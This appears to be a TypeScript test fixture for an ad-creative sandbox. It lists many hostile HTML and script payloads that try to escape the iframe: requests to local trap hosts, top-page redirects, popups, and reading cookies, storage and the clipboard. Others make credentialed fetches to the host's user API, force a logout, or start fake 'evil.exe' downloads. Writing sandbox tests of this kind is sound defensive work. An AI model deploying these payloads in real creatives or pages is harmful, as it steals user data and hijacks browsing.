/** A creative that tries one way out of its frame. */
export interface HostileCreative {
  readonly name: string
  readonly markup: string
}

/** Where creatives try to go; all of it listens. */
export interface Traps {
  /** `http://127.0.0.1:1234` */
  readonly http: string
  /** `127.0.0.1:1234`, for STUN. */
  readonly udp: string
  /** A domain whose names nobody may look up. */
  readonly domain: string
}

/**
 * Creatives that try by themselves: to ask other hosts for something, to take the page along, to open windows, to read what
 * isn't theirs, to disturb. What they get hold of they hand to `loot`.
 */
export function hostileCreatives({ http, udp, domain }: Traps): readonly HostileCreative[] {
  const ws = http.replace('http', 'ws')
  const stun = `new P({iceServers:[{urls:'stun:${udp}'}]})`
  const rtc = `try{const P=window.RTCPeerConnection;const p=${stun};p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))}catch{}`
  const own = (name: string, script: string) => [name, `<script>try{${script}}catch{}</script>`] as const
  const all: readonly (readonly [string, string])[] = [
    // Markup that loads.
    ['img', `<img src="${http}/img">`],
    ['srcset', `<picture><source srcset="${http}/srcset"><img srcset="${http}/srcset 2x" alt=""></picture>`],
    ['style sheet', `<link rel=stylesheet href="${http}/css">`],
    ['import', `<style>@import url(${http}/import);</style>`],
    ['background', `<div style="width:9px;height:9px;background:url(${http}/background)">x</div>`],
    ['font', `<style>@font-face{font-family:f;src:url(${http}/font)}p{font-family:f}</style><p>text</p>`],
    ['script', `<script src="${http}/script"></script>`],
    ['module', `<script type=module>import '${http}/module'</script>`],
    [
      'import map',
      `<script type=importmap>{"imports":{"x":"${http}/map"}}</script><script type=module>import 'x'</script>`,
    ],
    ['frame', `<iframe src="${http}/frame"></iframe>`],
    ['data frame', `<iframe src="data:text/html,<img src=${http}/data-frame>"></iframe>`],
    ['script frame', `<iframe src="javascript:'<img src=${http}/script-frame>'"></iframe>`],
    ['srcdoc', `<iframe srcdoc="<img src='${http}/srcdoc'><script>fetch('${http}/srcdoc-fetch')</script>"></iframe>`],
    ['object', `<object data="${http}/object"></object>`],
    ['embed', `<embed src="${http}/embed">`],
    ['video', `<video src="${http}/video" poster="${http}/poster" autoplay muted></video>`],
    ['audio', `<audio src="${http}/audio" autoplay></audio>`],
    ['captions', `<video autoplay muted><track src="${http}/track" default></video>`],
    ['svg image', `<svg width=9 height=9><image href="${http}/svg-image" width=9 height=9 /></svg>`],
    ['svg use', `<svg width=9 height=9><use href="${http}/use.svg#x" /></svg>`],
    [
      'svg filter',
      `<svg><filter id=f><feImage href="${http}/filter" /></filter><rect width=9 height=9 filter="url(#f)" /></svg>`,
    ],
    ['svg script', `<svg><script href="${http}/svg-script"></script></svg>`],
    [
      'shadow',
      `<div><template shadowrootmode=closed><style>@import url(${http}/shadow);</style><img src="${http}/shadow-img"></template></div>`,
    ],
    ['prefetch', `<link rel=prefetch href="${http}/prefetch">`],
    [
      'preload',
      `<link rel=preload as=image href="${http}/preload"><link rel=modulepreload href="${http}/modulepreload">`,
    ],
    ['preconnect', `<link rel=preconnect href="${http}/"><link rel=preconnect href="http://preconnect.${domain}/">`],
    ['dns', `<link rel=dns-prefetch href="//dns.${domain}"><a href="http://link.${domain}/">x</a>`],
    [
      'speculation',
      `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${http}/speculation"]}],"prerender":[{"source":"list","urls":["${http}/prerender"]}]}</script>`,
    ],
    ['icon', `<link rel=icon href="${http}/icon"><link rel=manifest href="${http}/manifest">`],
    ['base', `<base href="${http}/"><img src="base.png">`],
    ['image button', `<form><input type=image src="${http}/button"></form>`],
    ['old background', `<table background="${http}/table"><tr><td>x</table>`],
    [
      'frameset',
      `<script>document.documentElement.innerHTML='<frameset><frame src="${http}/frameset"></frameset>'</script>`,
    ],
    [
      'fenced frame',
      '<script>document.body.append(Object.assign(document.createElement("fencedframe"),{config:{}}))</script>',
    ],
    [
      'style sheet by instruction',
      `<script>const d=new DOMParser().parseFromString('<?xml-stylesheet href="${http}/xsl" type="text/xsl"?><x/>','text/xml');document.replaceChild(document.importNode(d.documentElement,true),document.documentElement)</script>`,
    ],
    // Scripts that ask.
    own('fetch', `fetch('${http}/fetch').then(r=>r.text()).then(loot,()=>0)`),
    own(
      'keepalive',
      `fetch('${http}/keepalive',{method:'POST',mode:'no-cors',keepalive:true,body:'x'}).then(()=>loot('sent'),()=>0)`,
    ),
    own('fetch later', `fetchLater('${http}/later',{activateAfter:0})`),
    own('request', `const x=new XMLHttpRequest;x.open('GET','${http}/xhr');x.onload=()=>loot('xhr');x.send()`),
    own('request that waits', `const x=new XMLHttpRequest;x.open('GET','${http}/sync',false);x.send();loot('sync')`),
    own(
      'beacon',
      `navigator.sendBeacon('${http}/beacon','x');addEventListener('pagehide',()=>navigator.sendBeacon('${http}/pagehide','x'))`,
    ),
    own('socket', `new WebSocket('${ws}/socket').onopen=()=>loot('socket')`),
    own('events', `new EventSource('${http}/events').onopen=()=>loot('events')`),
    own(
      'transport',
      `new WebTransport('${http.replace('http', 'https')}/transport').ready.then(()=>loot('transport'),()=>0)`,
    ),
    own('new image', `new Image().src='${http}/new-image'`),
    own('dynamic import', `import('${http}/dynamic').then(()=>loot('import'),()=>0)`),
    own(
      'evaluated',
      `eval("import('data:text/javascript,fetch(%22${http}/evaluated%22)')").catch(()=>0);new Function("fetch('${http}/function')")()`,
    ),
    own('worker', `new Worker(URL.createObjectURL(new Blob(["fetch('${http}/worker')"])))`),
    own('shared worker', `new SharedWorker('data:text/javascript,fetch("${http}/shared")')`),
    own('service worker', `navigator.serviceWorker.register('${http}/sw.js').then(()=>loot('service worker'),()=>0)`),
    own(
      'worklet',
      `new AudioContext().audioWorklet.addModule('${http}/worklet').then(()=>loot('worklet'),()=>0);CSS.paintWorklet?.addModule('${http}/paint').then(()=>loot('paint'),()=>0)`,
    ),
    own(
      'adopted sheet',
      `const s=new CSSStyleSheet;s.replaceSync('p{background:url(${http}/adopted)}');document.adoptedStyleSheets=[s];document.write('<p>x')`,
    ),
    own('peer', rtc),
    ['peer in a frame', `<iframe srcdoc="<script>${rtc.replaceAll('"', '&quot;')}</script>"></iframe>`],
    own(
      'peer in a late frame',
      `const f=document.createElement('iframe');f.srcdoc='<script>'+${JSON.stringify(rtc)}+'<\\/script>';document.documentElement.append(f)`,
    ),
    own(
      'own host, with cookies',
      `fetch('/api/v1/current-user',{credentials:'include'}).then(r=>r.text()).then(loot,()=>0);new Image().src='/api/v1/asset?limit=1'`,
    ),
    [
      'studio',
      `<script src="${http}/Enabler.js"></script><script>try{Enabler.exit('x','${http}/studio');Enabler.loadScript('${http}/studio-script');Enabler.loadModule('${http}/studio-module');new Image().src=Enabler.getUrl('${http}/studio-url')}catch{}</script>`,
    ],
    own(
      'click of a script link',
      `const a=document.createElement('a');a.href="javascript:fetch('${http}/own-click')";document.body.append(a);a.click()`,
    ),
    own('detached click', `const a=document.createElement('a');a.href='${http}/detached';a.target='_top';a.click()`),
    // Ways to other pages.
    own('location', `location.href='${http}/location'`),
    own('location replaced', `location.replace('${http}/replace?'+document.title)`),
    own('location assigned late', `setTimeout(()=>location.assign('${http}/late'),200)`),
    ['refresh', `<meta http-equiv=refresh content="0;url=${http}/refresh">`],
    own('data page', `location.href='data:text/html,<img src=${http}/data-page>'`),
    own('blob page', `location.href=URL.createObjectURL(new Blob(['<img src=${http}/blob-page>'],{type:'text/html'}))`),
    own('script page', `location.href="javascript:'<img src=${http}/script-page>'"`),
    own('sign out', `location.href='/logout'`),
    own('mail', `location.href='mailto:x@${domain}'`),
    ['form', `<form action="${http}/form"><input name=a value=b></form><script>document.forms[0].submit()</script>`],
    [
      'form to the top',
      `<form method=post target=_top action="${http}/form-top"></form><script>document.forms[0].requestSubmit()</script>`,
    ],
    ['ping', `<a id=a ping="${http}/ping" href="${http}/ping-link">x</a><script>a.click()</script>`],
    [
      'link to the top',
      `<a id=a target=_top href="${http}/link-top">x</a><script>a.dispatchEvent(new MouseEvent('click'))</script>`,
    ],
    own('top', `top.location='${http}/top'`),
    own('top replaced', `top.location.replace('${http}/top-replace')`),
    own('parent', `parent.location.href='${http}/parent'`),
    own('history', `history.pushState(0,'','/campaigns');history.go(-1);top.history.back()`),
    own('sibling', `for(let i=0;i<top.length;i++)if(top[i]!==self)top[i].location='${http}/sibling'`),
    own('popup', `if(open('${http}/popup'))loot('popup')`),
    own('popup to the top', `open('${http}/open-top','_top')`),
    own(
      'popup from inside',
      `const f=document.createElement('iframe');f.srcdoc="<script>open('${http}/popup-inside')<\\/script>";document.documentElement.append(f)`,
    ),
    // What isn't theirs.
    own('cookie', `document.cookie='stolen=1;path=/';loot(document.cookie)`),
    own(
      'cookie store',
      `cookieStore.getAll().then(c=>loot(c),()=>0);cookieStore.set('stolen','1').then(()=>loot('set'),()=>0)`,
    ),
    own('local storage', `localStorage.stolen=1;loot(JSON.stringify(localStorage))`),
    own('session storage', `sessionStorage.stolen=1;loot('session storage')`),
    own('database', `indexedDB.open('stolen').onsuccess=()=>loot('database')`),
    own('caches', `caches.open('stolen').then(()=>loot('caches'),()=>0)`),
    own('files', `navigator.storage.getDirectory().then(()=>loot('files'),()=>0)`),
    own('storage access', `document.requestStorageAccess().then(()=>loot('storage access'),()=>0)`),
    own('parent document', `loot(parent.document.title)`),
    own('parent variable', `parent.stolen=1;loot(parent.stolen)`),
    own('parent frame', `loot(frameElement?.outerHTML??(()=>{throw 0})())`),
    own('channel', `new BroadcastChannel('x').onmessage=e=>loot(e.data)`),
    own('locks', `navigator.locks.request('x',()=>loot('lock')).catch(()=>0)`),
    own(
      'clipboard',
      `navigator.clipboard.writeText('STOLEN').then(()=>loot('written'),()=>0);navigator.clipboard.readText().then(loot,()=>0)`,
    ),
    own('place', `navigator.geolocation.getCurrentPosition(()=>loot('place'))`),
    own(
      'camera',
      `navigator.mediaDevices.getUserMedia({video:true,audio:true}).then(()=>loot('camera'),()=>0);navigator.mediaDevices.getDisplayMedia().then(()=>loot('screen'),()=>0)`,
    ),
    own(
      'notices',
      `Notification.requestPermission().then(()=>{new Notification('x').onshow=()=>loot('notice')}).catch(()=>0)`,
    ),
    own('passwords', `navigator.credentials.get({password:true}).then(c=>c&&loot('password'),()=>0)`),
    own(
      'payment',
      `new PaymentRequest([{supportedMethods:'https://pay.${domain}/'}],{total:{label:'x',amount:{currency:'EUR',value:'1'}}}).show().then(()=>loot('paid'),()=>0)`,
    ),
    // What disturbs.
    own('dialogs', `alert(1);if(confirm(1))loot('confirm');if(prompt(1))loot('prompt');print()`),
    own(
      'leaving',
      `addEventListener('beforeunload',e=>{e.preventDefault();e.returnValue='stay'});onunload=()=>new Image().src='${http}/unload'`,
    ),
    own(
      'download',
      `const a=document.createElement('a');a.download='evil.exe';a.href='data:application/octet-stream,evil';document.body.append(a);a.click()`,
    ),
    own(
      'blob download',
      `const a=document.createElement('a');a.download='evil.exe';a.href=URL.createObjectURL(new Blob(['evil']));a.click()`,
    ),
    own('full screen', `document.documentElement.requestFullscreen().then(()=>loot('full screen'),()=>0)`),
    own(
      'pointer',
      `document.documentElement.requestPointerLock()?.then?.(()=>loot('pointer'),()=>0);document.onpointerlockchange=()=>loot('pointer')`,
    ),
    own(
      'focus',
      `document.write('<input autofocus>');setInterval(()=>{focus();document.querySelector('input').focus()},50)`,
    ),
    own(
      'shaking',
      `navigator.vibrate?.([100,50,100]);navigator.wakeLock?.request('screen').then(()=>loot('wake lock'),()=>0)`,
    ),
    own('rewriting', `document.open();document.write('<img src="${http}/rewritten">');document.close()`),
    own(
      'false figures',
      `for(let i=0;i<50;i++)parent.postMessage({preview:'state',at:NaN,blocked:{length:1e9},blockedCount:-1,loaded:'x',movedAt:{}},'*')`,
    ),
    own('many nodes', `let s='';for(let i=0;i<20000;i++)s+='<b>';document.body.innerHTML=s`),
    own('messages', `for(let i=0;i<1000;i++)parent.postMessage('x'.repeat(1000),'*')`),
  ]
  return all.map(([name, markup]) => ({ name, markup }))
}

/** Creatives that wait for a person's click; each is a button as large as its frame. */
export function clickTraps({ http, domain }: Traps): readonly HostileCreative[] {
  const button = (name: string, script: string) => [name, `<button onclick="try{${script}}catch{}">x</button>`] as const
  const link = (name: string, attributes: string) => [name, `<a ${attributes}>x</a>`] as const
  const all = [
    button('click: popup', `open('${http}/click-popup')`),
    button('click: top', `top.location='${http}/click-top'`),
    button('click: location', `location='${http}/click-location'`),
    button(
      'click: copy',
      `document.addEventListener('copy',e=>{e.clipboardData.setData('text/plain','STOLEN');e.preventDefault()});document.execCommand('copy')`,
    ),
    button('click: clipboard', `navigator.clipboard.writeText('STOLEN').then(()=>loot('written'),()=>0)`),
    button('click: full screen', `document.documentElement.requestFullscreen().then(()=>loot('full screen'),()=>0)`),
    button(
      'click: pointer',
      `document.onpointerlockchange=()=>loot('pointer');document.documentElement.requestPointerLock()`,
    ),
    button('click: files', `showSaveFilePicker().then(()=>loot('files'),()=>0)`),
    button('click: dialog', `alert(1)`),
    link('click: blank', `target=_blank href="${http}/click-blank"`),
    link('click: link to the top', `target=_top href="${http}/click-link-top"`),
    link('click: ping', `ping="${http}/click-ping" href="${http}/click-pinged"`),
    link('click: download', `download=evil.exe href="data:application/octet-stream,evil"`),
    link('click: mail', `href="mailto:x@${domain}"`),
    link(
      'click: script',
      `href="javascript:void(open('${http}/click-script')||top.open('${http}/click-script-open'))"`,
    ),
    link('click: script to the top', `target=_top href="javascript:void(top.location='${http}/click-script-top')"`),
    link('click: script of the parent', `target=_parent href="javascript:loot(parent.document.title)"`),
    link('click: script page', `href="javascript:'<img src=${http}/click-script-page>'"`),
    link(
      'click: script in a window',
      `target=_blank href="javascript:void(fetch('${http}/click-script-fetch').then(loot))"`,
    ),
    link(
      'click: script with cookies',
      `href="javascript:void(fetch('/api/v1/current-user').then(r=>r.text()).then(loot))"`,
    ),
    ['click: form', `<form target=_blank action="${http}/click-form"><button>x</button></form>`],
    ['click: svg', `<svg><a href="${http}/click-svg"><rect width=300 height=300 /></a></svg>`],
  ] as const
  const style = '<style>a,button,svg{display:block;width:100%;height:100vh}</style>'
  return all.map(([name, markup]) => ({ name, markup: style + markup }))
}

/** A whole page: it says that it ran, then tries. */
export function pageOf({ name, markup }: HostileCreative): string {
  const said = JSON.stringify(name)
  const start = `const loot=what=>parent.postMessage({loot:${said}+': '+what},'*');parent.postMessage({ran:${said}},'*')`
  return `<!doctype html><html><head><title>secret</title></head><body><script>${start}</script>${markup}</body></html>`
}
